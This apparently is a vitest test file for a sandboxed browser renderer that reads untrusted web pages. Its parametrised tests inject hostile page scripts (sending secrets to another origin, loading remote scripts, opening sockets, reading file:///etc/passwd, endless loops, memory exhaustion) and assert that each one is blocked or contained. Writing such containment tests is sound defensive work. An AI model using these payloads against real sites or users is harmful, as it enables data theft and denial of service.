/** Pages of strangers in a real browser: their acts, their reach, and their end. */
import { readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { FetchFailed, readFrom } from '../agents/agents.ts';
import { systemTime } from '../src/base/time.ts';
import { forgetfulSites } from '../src/library/pages/sites.ts';
import { inThread } from '../src/outside/compute/compute.ts';
import { openRenderer, type Renderer, whyNoBrowser, withBrowser } from '../src/outside/rendering/renderer.ts';
import { BROWSER } from '../test/browser/support.ts';
import { fetchingOf, type Said, startSite } from '../test/src/outside/rendering/support.ts';
import { ROOT } from '../test/src/support/command.ts';

const MODULE = join(ROOT, 'dist/src/outside/rendering/browser-process.js');
/** Chromium has no sandbox as root (`--no-sandbox`). */
const SANDBOX = process.getuid?.() !== 0;
const TEXT = 'words that somebody reads '.repeat(30).trim();
const WRITES = `document.getElementById('app').innerHTML = '<p>${TEXT}</p>';`;
const time = systemTime(new AbortController().signal);

const pageWith = (script: string): Said => ({
  type: 'text/html',
  body: `<!doctype html><title>The page</title><div id="app"></div><script>${script}</script>`,
});

interface World {
  readonly renderer: Renderer;
  readonly errors: readonly unknown[];
  readonly asked: readonly string[];
  /** Requests to a forbidden site, of which there are none. */
  readonly others: readonly string[];
  readonly textAt: (path: string) => Promise<string>;
}

async function worldOf(answers: (other: string) => Parameters<typeof startSite>[0], pageMs = 20_000): Promise<World> {
  const other = await startSite({ '/x.js': { type: 'text/javascript', body: WRITES }, '/x': { body: 'private' } });
  const site = await startSite(answers(other.origin));
  const fetching = fetchingOf(site, true);
  const errors: unknown[] = [];
  const failed = (error: unknown) => void errors.push(error);
  const options = {
    browser: BROWSER ?? '',
    parts: fetching.parts,
    time,
    failed,
    module: MODULE,
    sandbox: SANDBOX,
    pageMs,
  };
  const renderer = openRenderer(options) as Renderer;
  onTestFinished(() => renderer.close());
  const compute = withBrowser(inThread(), renderer);
  const ports = { fetch: fetching.fetch, compute, sites: forgetfulSites() };
  const textAt = async (path: string) => (await readFrom(site.origin + path, ports)).page.text;
  return { renderer, errors, asked: site.asked, others: other.asked, textAt };
}

const NEVER = 'globalThis.never = true;';

describe.skipIf(BROWSER === undefined)('a page in a browser', () => {
  test('is read as its scripts make it, from what it asks its site for', async () => {
    const { textAt, asked } = await worldOf(() => ({
      '/app': {
        type: 'text/html',
        body: '<!doctype html><link rel="stylesheet" href="/a.css"><div id="app"></div><img src="/a.png"><script src="/app.js"></script>',
      },
      '/app.js': {
        type: 'text/javascript',
        body: `fetch('/post.json').then((r) => r.json()).then(({ text }) => { document.getElementById('app').textContent = text; });`,
      },
      '/post.json': { type: 'application/json', body: JSON.stringify({ text: TEXT }) },
    }));
    expect(await textAt('/app')).toBe(TEXT);
    expect(asked.filter((path) => path !== '/robots.txt')).toEqual(['/app', '/app.js', '/post.json']);
  });

  test('shows what its shadow trees have', async () => {
    const script = `customElements.define('a-story', class extends HTMLElement { constructor() { super(); this.attachShadow({ mode: 'open' }).innerHTML = '<p>${TEXT}</p>'; } }); document.getElementById('app').append(document.createElement('a-story'));`;
    const { textAt } = await worldOf(() => ({ '/a': pageWith(script) }));
    expect(await textAt('/a')).toBe(TEXT);
  });

  test.each<[string, (other: string) => string]>([
    ['a request', (other) => `fetch('${other}/x').catch(() => 0);`],
    ['a request without reading', (other) => `fetch('${other}/x', { mode: 'no-cors' }).catch(() => 0);`],
    [
      'what is sent',
      (other) =>
        `fetch('${other}/x', { method: 'POST', body: 'secret' }).catch(() => 0); navigator.sendBeacon('${other}/x', 'secret');`,
    ],
    [
      'a script',
      (other) => `const s = document.createElement('script'); s.src = '${other}/x.js'; document.body.append(s);`,
    ],
    ['a module', (other) => `import('${other}/x.js').catch(() => 0);`],
    ['a picture', (other) => `new Image().src = '${other}/x?secret';`],
    ['a font', (other) => `new FontFace('a', 'url(${other}/x)').load().catch(() => 0);`],
    [
      'a style',
      (other) =>
        `document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=${other}/x><style>body{background:url(${other}/x)}</style>');`,
    ],
    [
      'a hint',
      (other) =>
        `document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href=${other}><link rel=prefetch href=${other}/x><link rel=preload as=fetch href=${other}/x><link rel=dns-prefetch href=//secret.example>');`,
    ],
    [
      'a frame',
      (other) =>
        `document.body.insertAdjacentHTML('beforeend', '<iframe src=${other}/x></iframe><object data=${other}/x></object><embed src=${other}/x>');`,
    ],
    [
      'a form',
      (other) =>
        `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action=${other}/x><input name=a value=b></form>'); f.submit();`,
    ],
    [
      'a redirect',
      () =>
        `fetch('/to-other').catch(() => 0); const s = document.createElement('script'); s.src = '/to-other'; document.body.append(s);`,
    ],
    ['leaving', (other) => `location.href = '${other}/x';`],
    ['leaving again and again', () => `setInterval(() => location.reload(), 10);`],
    [
      'a window',
      (other) =>
        `const w = document.createElement('a'); w.href = '${other}/x'; w.target = '_blank'; document.body.append(w); w.click(); try { window.open('${other}/x'); } catch {}`,
    ],
    [
      'a socket',
      (other) =>
        `try { new WebSocket('${other.replace('http', 'ws')}/x'); } catch {} const f = document.createElement('iframe'); document.body.append(f); try { new f.contentWindow.WebSocket('${other.replace('http', 'ws')}/x'); } catch {}`,
    ],
    [
      'events',
      (other) =>
        `const f = document.createElement('iframe'); document.body.append(f); try { new f.contentWindow.EventSource('${other}/x'); } catch {}`,
    ],
    [
      'a worker',
      (other) =>
        `const f = document.createElement('iframe'); document.body.append(f); const code = URL.createObjectURL(new Blob(["fetch('${other}/x'); new WebSocket('${other.replace('http', 'ws')}/x')"])); try { new f.contentWindow.Worker(code); } catch {} try { new f.contentWindow.SharedWorker(code); } catch {}`,
    ],
    [
      'a service worker',
      (other) =>
        `const f = document.createElement('iframe'); document.body.append(f); try { f.contentWindow.navigator.serviceWorker.register('/sw.js').catch(() => 0); fetch('${other}/x').catch(() => 0); } catch {}`,
    ],
    [
      'calls',
      (other) =>
        `const f = document.createElement('iframe'); document.body.append(f); try { const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(other).host}' }] }); c.createDataChannel('a'); c.createOffer().then((o) => c.setLocalDescription(o)); } catch {}`,
    ],
    [
      'a download',
      (other) =>
        `const a = document.createElement('a'); a.href = '${other}/x'; a.download = 'x'; document.body.append(a); a.click(); const b = document.createElement('a'); b.href = URL.createObjectURL(new Blob(['x'])); b.download = 'y'; document.body.append(b); b.click();`,
    ],
    [
      'files',
      () =>
        `fetch('file:///etc/passwd').then((r) => r.text()).then((t) => { document.getElementById('app').textContent += t; }).catch(() => 0); document.body.insertAdjacentHTML('beforeend', '<iframe src=file:///etc/passwd></iframe>');`,
    ],
    [
      'questions',
      () =>
        `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.alert('a'); f.contentWindow.confirm('b'); f.contentWindow.prompt('c'); f.contentWindow.print(); window.onbeforeunload = () => 'stay';`,
    ],
    [
      'what it knows of the time it has',
      () => `setInterval(() => { for (const end = performance.now() + 20; performance.now() < end;); }, 40);`,
    ],
    [
      'functions that tell of it',
      () =>
        `document.documentElement.getHTML = () => 'nothing'; Object.defineProperty(Element.prototype, 'shadowRoot', { get() { throw 1; } });`,
    ],
  ])('reaches nobody by %s, and is read', async (_, attack) => {
    const { textAt, others, asked, errors } = await worldOf((other) => ({
      '/a': pageWith(`${WRITES} setTimeout(() => { ${attack(other)} }, 0);`),
      '/to-other': { status: 302, headers: { location: `${other}/x.js` } },
      '/sw.js': { type: 'text/javascript', body: NEVER },
    }));
    expect(await textAt('/a')).toContain(TEXT);
    expect(others).toEqual([]);
    expect(asked.filter((path) => path.startsWith('POST') || path === '/sw.js')).toEqual([]);
    expect(errors).toEqual([]);
  });

  test.each([
    ['without an end', 'for (;;);'],
    ['that starts itself anew', 'const f = () => Promise.resolve().then(f); f();'],
    ['that takes all memory', 'const all = []; for (;;) all.push(new Array(1e6).fill(all.length));'],
    [
      'with more nodes than can be shown',
      `const d = document.getElementById('app'); for (let i = 0; i < 3e6; i++) { const p = document.createElement('p'); p.textContent = 'w ' + i; d.append(p); }`,
    ],
    [
      'within each other without an end',
      `let d = document.getElementById('app'); for (;;) d = d.appendChild(document.createElement('div'));`,
    ],
  ])(
    'with a script %s ends in a reading failure, or in what it shows, and the next page is shown',
    async (_, script) => {
      const { textAt } = await worldOf(() => ({ '/bad': pageWith(script), '/good': pageWith(WRITES) }), 15_000);
      const before = performance.now();
      await textAt('/bad').catch((error) => expect(error).toBeInstanceOf(FetchFailed));
      expect(performance.now() - before).toBeLessThan(25_000);
      expect(await textAt('/good')).toBe(TEXT);
    },
  );

  test('of ten thousand requests a hundred are made, within six at once', async () => {
    let running = 0;
    let most = 0;
    const slow = Object.fromEntries(
      Array.from({ length: 10_000 }, (_, i) => [
        `/r${i}`,
        (_request: unknown, response: { end(): void }) => {
          most = Math.max(most, ++running);
          setTimeout(() => {
            running--;
            response.end();
          }, 5);
        },
      ]),
    );
    const { textAt, asked } = await worldOf(() => ({
      ...slow,
      '/a': pageWith(`${WRITES} for (let i = 0; i < 10000; i++) fetch('/r' + i).catch(() => 0);`),
    }));
    expect(await textAt('/a')).toBe(TEXT);
    expect(asked.filter((path) => path.startsWith('/r') && path !== '/robots.txt')).toHaveLength(100);
    expect(most).toBeLessThanOrEqual(6);
  });

  test('leaves nothing to the next one', async () => {
    const keeps = `document.cookie = 'a=b'; localStorage.setItem('a', 'b'); indexedDB.open('a'); caches.open('a').catch(() => 0); ${WRITES}`;
    const tells = `${WRITES} document.getElementById('app').append([document.cookie, localStorage.getItem('a') ?? ''].join('') || 'clean');`;
    const { textAt } = await worldOf(() => ({ '/keeps': pageWith(keeps), '/tells': pageWith(tells) }));
    await textAt('/keeps');
    expect(await textAt('/tells')).toContain('clean');
  });

  test('goes with all that is the browser’s', async () => {
    const left = () => readdirSync(tmpdir()).filter((name) => name.startsWith('fenix-browser-'));
    const before = left();
    const { renderer, textAt } = await worldOf(() => ({ '/a': pageWith(WRITES) }));
    await textAt('/a');
    expect(left().length).toBeGreaterThan(before.length);
    await renderer.close();
    expect(left()).toEqual(before);
  });

  test('can be tried beforehand', async () => {
    expect(await whyNoBrowser({ browser: BROWSER ?? '', time, module: MODULE, sandbox: SANDBOX })).toBeUndefined();
    if (!SANDBOX) {
      const why = await whyNoBrowser({ browser: BROWSER ?? '', time, module: MODULE });
      expect(why).toContain('cannot be started in its sandbox');
    }
  });
});
